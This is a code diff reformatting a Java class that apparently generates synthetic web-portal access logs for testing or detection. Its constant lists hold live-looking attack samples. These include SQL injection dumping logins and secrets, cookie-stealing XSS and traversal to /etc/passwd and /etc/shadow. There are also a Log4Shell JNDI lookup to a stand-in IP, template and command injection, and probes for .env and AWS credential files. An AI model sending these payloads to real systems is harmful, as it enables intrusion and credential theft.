@@ -15,27 +15,37 @@ final class PortalLog implements LineWriter {
     private static final List<String> PARAMETERS = List.of("page", "sort", "lang", "case", "step", "year", "filter",
             "from", "until", "document", "q", "district");
     private static final List<String> WORDS = List.of("de", "fr", "2026", "date,desc", "open", "summary", "seefeld",
-            "wiedikon", "altstetten", "wohnsitz", "parkkarte", "hund", "steuern", "rechnung", "umzug", "best%C3%A4tigung",
+            "wiedikon", "altstetten", "wohnsitz", "parkkarte", "hund", "steuern", "rechnung", "umzug",
+            "best%C3%A4tigung",
             "kinder+betreuung", "sperrgut", "k%C3%BCndigung", "formular");
-    private static final List<String> SYSTEMS = List.of("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7",
+    private static final List<String> SYSTEMS = List.of("Windows NT 10.0; Win64; x64",
+            "Macintosh; Intel Mac OS X 10_15_7",
             "X11; Linux x86_64", "iPhone; CPU iPhone OS 18_5 like Mac OS X", "Linux; Android 15; Pixel 9",
             "iPad; CPU OS 18_4 like Mac OS X", "Linux; Android 14; SM-S921B");
     private static final List<Carrier> CARRIERS = List.of(Carrier.QUERY, Carrier.QUERY, Carrier.PATH, Carrier.AGENT);
-    private static final List<String> METHODS = List.of("GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD",
+    private static final List<String> METHODS = List.of("GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST",
+            "HEAD",
             "PUT");
-    private static final List<Integer> ANSWERS = List.of(200, 200, 200, 200, 200, 200, 304, 302, 204, 404, 400, 403, 500);
-    private static final List<String> ATTACK_QUERIES = List.of("id=1'%20UNION%20SELECT%20login,secret%20FROM%20person--", "case=1%20UNION%20ALL%20SELECT%20NULL,@@version--",
+    private static final List<Integer> ANSWERS = List.of(200, 200, 200, 200, 200, 200, 304, 302, 204, 404, 400, 403,
+            500);
+    private static final List<String> ATTACK_QUERIES = List.of(
+            "id=1'%20UNION%20SELECT%20login,secret%20FROM%20person--",
+            "case=1%20UNION%20ALL%20SELECT%20NULL,@@version--",
             "sort=id%20order%20by%209--", "filter=x'%20or%201=1#", "q=1%20and%20group_concat(table_name)",
             "case=7%27%20OR%201=1--%20", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
             "document=../../../../etc/passwd", "file=..%2f..%2f..%2fetc%2fshadow",
             "q=${jndi:ldap://198.51.100.23:1389/a}", "name={{7*7}}", "step=1;cat%20/etc/hosts",
-            "q=%3Cimg%20src=x%20onerror=alert(1)%3E", "year=2026%20AND%20SLEEP(5)", "sort=(select*from(select(sleep(9)))a)",
-            "lang=php://filter/convert.base64-encode/resource=index", "filter=admin'--%20", "q=1%20waitfor%20delay%20'0:0:5'");
-    private static final List<String> ATTACK_PATHS = List.of("/.git/config", "/.env", "/wp-login.php", "/actuator/heapdump",
+            "q=%3Cimg%20src=x%20onerror=alert(1)%3E", "year=2026%20AND%20SLEEP(5)",
+            "sort=(select*from(select(sleep(9)))a)",
+            "lang=php://filter/convert.base64-encode/resource=index", "filter=admin'--%20",
+            "q=1%20waitfor%20delay%20'0:0:5'");
+    private static final List<String> ATTACK_PATHS = List.of("/.git/config", "/.env", "/wp-login.php",
+            "/actuator/heapdump",
             "/cgi-bin/../../../../bin/sh", "/phpmyadmin/index.php", "/%2e%2e/%2e%2e/windows/win.ini", "/server-status",
             "/backup.zip", "/console/login.jsp", "/api/v1/../../admin", "/.aws/credentials");
     private static final List<String> SCANNERS = List.of("sqlmap/1.9.4#stable (https://sqlmap.org)",
-            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nmap Scripting Engine", "gobuster/3.6", "nuclei - open-source",
+            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nmap Scripting Engine", "gobuster/3.6",
+            "nuclei - open-source",
             "python-requests/2.32.3", "masscan/1.3", "WPScan v3.8.28", "Wfuzz/3.1.0", "DirBuster-1.0-RC1");
 
     /** Which part of a request carries an attack. */
